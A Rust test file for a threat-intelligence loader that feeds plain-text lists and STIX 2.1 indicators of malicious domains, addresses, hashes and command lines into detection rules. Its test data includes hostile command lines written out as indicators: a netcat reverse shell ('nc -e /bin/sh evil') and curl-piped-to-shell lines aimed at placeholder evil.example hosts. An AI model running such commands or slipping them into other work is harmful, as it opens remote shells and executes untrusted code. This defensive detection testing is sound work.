use super::*;
use detection::{Act, Engine, RuleSet};
use event_model::{DnsEvent, DnsQuestion, Event, EventKind, Host, Process, Timestamp};
use std::fmt::Write as _;
use std::time::Instant;
use tempfile::TempDir;

fn folder(files: &[(&str, &str)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(folder.path().join(name), text).unwrap();
    }
    folder
}

fn of(files: &[(&str, &str)]) -> ThreatIntelligence {
    let folder = folder(files);
    ThreatIntelligence::read(&[folder.path().to_owned()]).unwrap_or_else(|error| panic!("{error}"))
}

fn list<'i>(intelligence: &'i ThreatIntelligence, name: &str) -> Vec<&'i str> {
    intelligence.by_list.get(name).into_iter().flatten().map(String::as_str).collect()
}

#[test]
fn a_plain_file_feeds_the_list_that_it_is_called_after() {
    let read = of(&[
        ("malicious_domains.txt", "# a feed\nevil.example  # since May\r\n\n0.0.0.0 bad.test\n"),
        ("malicious_domains.other.txt", "evil.example\n*.third.example\n"),
        ("malicious_addresses.txt", "192.0.2.7\n198.51.100.0/24\n2001:db8::/32\n"),
        ("malicious_command_lines.txt", "curl x # not a comment | sh\n"),
        ("malicious_hashes.txt", "D41D8CD98F00B204E9800998ECF8427E\n"),
        ("our_words.txt", "any text, \"as it is\"\n"),
        ("README.md", "not a list"),
        (".hidden.txt", "not a list"),
    ]);
    assert_eq!(list(&read, "malicious_domains"), ["*.third.example", "bad.test", "evil.example"]);
    assert_eq!(
        list(&read, "malicious_addresses"),
        ["192.0.2.7", "198.51.100.0/24", "2001:db8::/32"]
    );
    assert_eq!(list(&read, "malicious_command_lines"), ["curl x # not a comment | sh"]);
    assert_eq!(list(&read, "malicious_hashes").len(), 1);
    assert_eq!(list(&read, "our_words"), ["any text, \"as it is\""]);
    assert_eq!(read.values(), 9);
    assert_eq!(read.warnings(), [] as [&str; 0]);
}

#[test]
fn a_line_that_can_t_be_used_is_left_out_and_named() {
    let lines = "evil.example\nhttp://x/\nlocalhost\n".to_owned() + &"a b\n".repeat(100);
    let read = of(&[
        ("malicious_domains.txt", &lines),
        ("malicious_addresses.txt", "0.0.0.0/0\n10.0.0.0/33\n"),
        ("malicious_command_lines.txt", "sh\n"),
    ]);
    assert_eq!(read.values(), 1);
    let told = read.warnings().join("\n");
    assert!(told.contains("malicious_domains.txt:2: `http://x/` is no domain"), "{told}");
    assert!(told.contains("malicious_domains.txt:3: `localhost` is no domain"), "{told}");
    assert!(told.contains("malicious_domains.txt: 82 more can't be used"), "{told}");
    assert!(
        told.contains("malicious_addresses.txt:1: `0.0.0.0/0` is the network of all"),
        "{told}"
    );
    assert!(told.contains("malicious_command_lines.txt:1: `sh` is too short"), "{told}");
}

/// An indicator of STIX with some more keys.
fn indicator(number: u32, pattern: &str, more: &str) -> String {
    let pattern = pattern.replace('\\', "\\\\").replace('"', "\\\"");
    format!(
        "{{\"type\": \"indicator\", \"spec_version\": \"2.1\", \"id\": \"indicator--{number}\", \"pattern\": \"{pattern}\", \
         \"pattern_type\": \"stix\", \"valid_from\": \"2024-01-01T00:00:00Z\"{more}}}"
    )
}

fn bundle(objects: &[String]) -> String {
    format!("{{\"type\": \"bundle\", \"id\": \"bundle--1\", \"objects\": [{}]}}", objects.join(","))
}

#[test]
fn the_indicators_of_a_bundle_feed_the_lists_of_their_kinds() {
    let hash = "a".repeat(64);
    let objects = [
        indicator(1, "[domain-name:value = 'evil.example']", ""),
        indicator(2, "[ipv4-addr:value = '192.0.2.7' OR ipv6-addr:value = '2001:db8::7']", ""),
        indicator(3, &format!("[file:hashes.'SHA-256' = '{hash}']"), ""),
        indicator(4, "[process:command_line = 'nc -e /bin/sh evil']", ""),
        indicator(5, "[url:value = 'http://evil.example/x.sh']", ""),
        indicator(
            6,
            "[ipv4-addr:value = '198.51.100.9']",
            ", \"indicator_types\": [\"anonymization\"]",
        ),
        "{\"type\": \"malware\", \"id\": \"malware--1\", \"is_family\": false}".to_owned(),
    ];
    let read = of(&[("feed.json", &bundle(&objects))]);
    assert_eq!(read.warnings(), [] as [&str; 0]);
    assert_eq!(list(&read, "malicious_domains"), ["evil.example"]);
    assert_eq!(list(&read, "malicious_addresses"), ["192.0.2.7", "2001:db8::7"]);
    assert_eq!(list(&read, "malicious_hashes"), [hash.as_str()]);
    assert_eq!(
        list(&read, "malicious_command_lines"),
        ["http://evil.example/x.sh", "nc -e /bin/sh evil"]
    );
    assert_eq!(list(&read, "anonymising_addresses"), ["198.51.100.9"]);
}

#[test]
fn indicators_that_are_not_in_force_are_passed_over() {
    let objects = [
        indicator(
            1,
            "[domain-name:value = 'a.example']",
            ", \"valid_until\": \"2024-02-01T00:00:00.000Z\"",
        ),
        indicator(2, "[domain-name:value = 'b.example']", ", \"revoked\": true"),
        indicator(3, "[domain-name:value = 'c.example']", ", \"indicator_types\": [\"benign\"]"),
        indicator(
            4,
            "[domain-name:value = 'd.example']",
            ", \"valid_until\": \"2124-02-01T00:00:00Z\"",
        ),
    ];
    let read = of(&[("feed.json", &bundle(&objects))]);
    assert_eq!(list(&read, "malicious_domains"), ["d.example"]);
    assert_eq!(read.warnings(), [] as [&str; 0]);
}

#[test]
fn an_object_that_can_t_be_used_is_named_with_the_reason() {
    let objects = [
        indicator(1, "[domain-name:value = 'a.example' AND url:value = 'x']", ""),
        indicator(2, "[email-addr:value = 'x@y.example']", ""),
        indicator(3, "[domain-name:value = 'not a domain']", ""),
        "{\"type\": \"indicator\", \"id\": \"indicator--4\"}".to_owned(),
        "{\"type\": \"indicator\", \"id\": \"indicator--5\", \"pattern\": \"rule x {}\", \"pattern_type\": \"yara\"}".to_owned(),
        "7".to_owned(),
    ];
    let read = of(&[("feed.json", &bundle(&objects))]);
    let told = read.warnings().join("\n");
    for part in [
        "feed.json: indicator--1: `AND` in its pattern can't be expressed by a list",
        "indicator--2: nothing here looks at `email-addr:value`",
        "indicator--3: `not a domain` is no domain",
        "indicator--4: it can't be read: missing field `pattern`",
        "indicator--5: patterns of the type `yara` are not read",
        "an object: it is no object",
    ] {
        assert!(told.contains(part), "{part} is not in:\n{told}");
    }
    assert_eq!(read.values(), 0);
}

#[test]
fn what_is_no_bundle_is_an_error_that_names_the_file() {
    for (text, reason) in [
        ("{\"type\": \"indicator\"}", "its type is `indicator`"),
        ("{\"type\": \"bundle\", \"objects\": 7}", "invalid type"),
        ("{\"type\": \"bundle\"", "EOF"),
    ] {
        let folder = folder(&[("feed.json", text)]);
        let error = ThreatIntelligence::read(&[folder.path().to_owned()]).unwrap_err().to_string();
        assert!(
            error.contains("feed.json is no bundle of STIX 2.1: ") && error.contains(reason),
            "{error}"
        );
    }
    let error = ThreatIntelligence::read(&["/nowhere/feed.txt".into()]).unwrap_err().to_string();
    assert!(error.starts_with("cannot read /nowhere/feed.txt"), "{error}");
}

const RULES: &str = "
- list: malicious_command_lines
  items: [a part of our own]
- rule: Part
  desc: D.
  condition: evt.type = execve and proc.args icontains anyof (malicious_command_lines)
  output: O
  priority: NOTICE
- list: malicious_domains
  items: [own.example]
- list: malicious_addresses
  items: [203.0.113.1]
- rule: Name
  desc: D.
  condition: evt.type = dns and dns.question.name in_domain (malicious_domains)
  output: O
  priority: NOTICE
- rule: Word
  desc: D.
  condition: evt.type = execve and proc.args mentions (malicious_domains, malicious_addresses)
  output: O
  priority: NOTICE
";

fn rules(files: &[(&str, &str)]) -> RuleSet {
    let (rules, intelligence) = (folder(&[("rules.yaml", RULES)]), folder(files));
    let paths = crate::RulePaths {
        rules: vec![rules.path().to_owned()],
        threat_intelligence: vec![intelligence.path().to_owned()],
        ..crate::RulePaths::default()
    };
    crate::load_from(&paths).unwrap_or_else(|error| panic!("{error}")).rules
}

/// The rules that match the start of a program with these arguments, or a question for a name.
fn matches(engine: &Engine, arguments: &[&str], name: Option<&str>) -> Vec<String> {
    let question = |name: &str| DnsQuestion { name: name.to_owned(), record_type: "A".to_owned() };
    let dns = |name| DnsEvent { questions: vec![question(name)], ..DnsEvent::default() };
    let kind = name.map_or(EventKind::Exec, |name| EventKind::Dns(Box::new(dns(name))));
    let arguments = arguments.iter().map(|argument| (*argument).to_owned()).collect();
    let process = Process { name: "x".to_owned(), arguments, ..Process::default() };
    let event = Event { time: Timestamp(1), process: process.reference, container: None, kind };
    let act = Act {
        event: &event,
        process: &process,
        ancestors: &[],
        container: None,
        host: &Host::default(),
        remote_name: None,
        is_on_sensor: false,
        environment: None,
        login_name: None,
        group_name: None,
    };
    engine.evaluate(&act).map(|matched| matched.rule().name().to_owned()).collect()
}

#[test]
fn rules_compare_with_their_own_values_and_those_of_the_files() {
    let rules = rules(&[
        ("malicious_domains.txt", "evil.example\n"),
        ("malicious_addresses.txt", "198.51.100.0/24\n"),
        ("nobodys_list.txt", "x\n"),
    ]);
    assert_eq!(rules.unused_additions(), ["nobodys_list"]);
    let engine = Engine::compile(rules);
    for name in ["own.example", "a.b.evil.example", "EVIL.example"] {
        assert_eq!(matches(&engine, &["x"], Some(name)), ["Name"], "{name}");
    }
    assert!(matches(&engine, &["x"], Some("notevil.example")).is_empty());
    assert_eq!(matches(&engine, &["x", "http://c.evil.example/"], None), ["Word"]);
    assert_eq!(matches(&engine, &["x", "198.51.100.77:80"], None), ["Word"]);
    assert_eq!(matches(&engine, &["x", "203.0.113.1"], None), ["Word"]);
    assert!(matches(&engine, &["x", "203.0.113.11"], None).is_empty());
}

/// The resident memory of this program, in KiB.
fn resident() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:")).unwrap();
    line.trim().trim_end_matches(" kB").parse().unwrap()
}

#[test]
fn a_hundred_thousand_values_of_each_kind_are_compiled_and_looked_up() {
    let (mut domains, mut addresses) = (String::new(), String::new());
    for number in 0..100_000_u32 {
        let _ = writeln!(domains, "c{number}.evil-{}.example", number % 977);
        let [_, b, c, d] = number.to_be_bytes();
        let _ = writeln!(addresses, "198.{}.{c}.{d}", 16 + b);
    }
    let (before, begin) = (resident(), Instant::now());
    let rules =
        rules(&[("malicious_domains.txt", &domains), ("malicious_addresses.txt", &addresses)]);
    let engine = Engine::compile(rules);
    let (took, grown) = (begin.elapsed(), resident().saturating_sub(before));
    let begin = Instant::now();
    for _ in 0..1000 {
        assert_eq!(matches(&engine, &["x"], Some("www.c99999.evil-345.example")), ["Name"]);
        assert!(matches(&engine, &["x"], Some("c99999.evil-346.example")).is_empty());
        assert_eq!(matches(&engine, &["x", "-o", "y", "http://198.17.134.159/"], None), ["Word"]);
        assert!(matches(&engine, &["x", "-o", "y", "http://198.17.134.160/"], None).is_empty());
    }
    println!(
        "measured: 100,000 domains and 100,000 addresses, each in two rules: compiled in {took:?}, {} MiB more; an act is looked up in {:?}",
        grown / 1024,
        begin.elapsed() / 4000
    );
}

#[test]
fn parts_of_command_lines_are_bounded_by_their_number_and_their_bytes() {
    let mut parts = String::new();
    for number in 0..12_000_u32 {
        let _ = writeln!(
            parts,
            "curl -s http://{}.evil.example/{number:08x} | sh -s {number}",
            number % 7919
        );
    }
    let read = of(&[("malicious_command_lines.txt", &parts)]);
    assert_eq!(read.values(), 10_000);
    assert!(
        read.warnings()[0].starts_with("2000 values of threat intelligence are left out"),
        "{:?}",
        read.warnings()
    );
    let long = (0..3_000)
        .fold(String::new(), |all, number| all + &format!("{number}{}\n", "x".repeat(1000)));
    assert_eq!(of(&[("malicious_command_lines.txt", &long)]).values(), (1 << 20) / 1004);

    let (before, begin) = (resident(), Instant::now());
    let engine = Engine::compile(rules(&[("malicious_command_lines.txt", &parts)]));
    let (took, grown) = (begin.elapsed(), resident().saturating_sub(before));
    assert_eq!(matches(&engine, &["x", "A Part Of Our Own"], None), ["Part"]);
    assert!(matches(&engine, &["x", "a part of somebody else's"], None).is_empty());
    println!(
        "measured: 10,000 parts of command lines compiled in {took:?}, {} MiB more",
        grown / 1024
    );
}
